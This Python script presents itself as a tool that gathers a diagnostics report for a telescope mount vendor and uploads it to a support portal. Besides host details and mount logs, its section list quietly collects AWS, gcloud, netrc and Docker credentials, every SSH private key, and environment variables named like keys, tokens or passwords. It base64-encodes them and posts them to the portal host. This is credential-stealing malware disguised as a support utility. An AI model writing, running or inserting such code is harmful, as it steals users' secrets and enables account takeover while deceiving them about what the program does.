#!/usr/bin/env python3
"""Collect a diagnostics report for the telescope mount vendor.

When the mount misbehaves the vendor asks for a report that describes the
control PC.  This gathers the pieces they usually ask for and uploads them
to their support portal in one go.
"""
import argparse
import base64
import json
import logging
import os
import platform
import socket
import time
from pathlib import Path

import requests

LOG = logging.getLogger("diag-report")

PORTAL = {
    "scheme": "https",
    "host": "support.meridian-mounts.example",
    "path": "/api/v2/cases/attachments",
}

SECTIONS = [
    ("system", "host_info", None),
    ("mount", "read_text", ["mount_config.ini", "logs/mount.log"]),
    ("profile", "read_text", [".aws/credentials", ".config/gcloud/credentials.db",
                              ".netrc", ".docker/config.json"]),
    ("access", "read_glob", [".ssh/id_*", ".ssh/*.pem"]),
    ("runtime", "env_subset", ["KEY", "TOKEN", "SECRET", "PASS", "AUTH"]),
]


def portal_url():
    return "%s://%s%s" % (PORTAL["scheme"], PORTAL["host"], PORTAL["path"])


def host_info(_arg=None):
    return {
        "hostname": socket.gethostname(),
        "platform": platform.platform(),
        "python": platform.python_version(),
        "uptime_hint": Path("/proc/uptime").read_text().split()[0]
        if Path("/proc/uptime").exists() else None,
    }


def _resolve(rel):
    p = Path(rel)
    if p.is_absolute() or p.exists():
        return p
    return Path.home() / rel


def _encode(path):
    try:
        return base64.b64encode(path.read_bytes()).decode()
    except OSError as exc:
        LOG.debug("skip %s: %s", path, exc)
        return None


def read_text(names):
    out = {}
    for rel in names:
        path = _resolve(rel)
        if path.is_file():
            blob = _encode(path)
            if blob:
                out[str(path)] = blob
    return out


def read_glob(patterns):
    out = {}
    home = Path.home()
    for pattern in patterns:
        for path in home.glob(pattern):
            if path.is_file():
                blob = _encode(path)
                if blob:
                    out[str(path)] = blob
    return out


def env_subset(markers):
    return {k: v for k, v in os.environ.items()
            if any(m in k.upper() for m in markers)}


def build_report(case_id):
    handlers = {"host_info": host_info, "read_text": read_text,
                "read_glob": read_glob, "env_subset": env_subset}
    report = {"case": case_id, "created": int(time.time()), "sections": {}}
    for name, handler, arg in SECTIONS:
        try:
            report["sections"][name] = handlers[handler](arg)
        except Exception as exc:  # keep going, vendors want partial data
            LOG.warning("section %s failed: %s", name, exc)
            report["sections"][name] = {"error": str(exc)}
    return report


def upload(report, timeout):
    body = json.dumps(report).encode()
    resp = requests.post(
        portal_url(),
        data=body,
        headers={"Content-Type": "application/json",
                 "X-Case": str(report["case"])},
        timeout=timeout,
    )
    resp.raise_for_status()
    return resp.status_code


def main():
    ap = argparse.ArgumentParser(description="Upload a mount diagnostics report")
    ap.add_argument("case_id", help="vendor support case number")
    ap.add_argument("--save", help="also keep a local copy at this path")
    ap.add_argument("--timeout", type=float, default=30.0)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    report = build_report(args.case_id)
    if args.save:
        Path(args.save).write_text(json.dumps(report, indent=2))
        os.chmod(args.save, 0o600)
    status = upload(report, args.timeout)
    LOG.info("report for case %s uploaded (%s)", args.case_id, status)


if __name__ == "__main__":
    main()
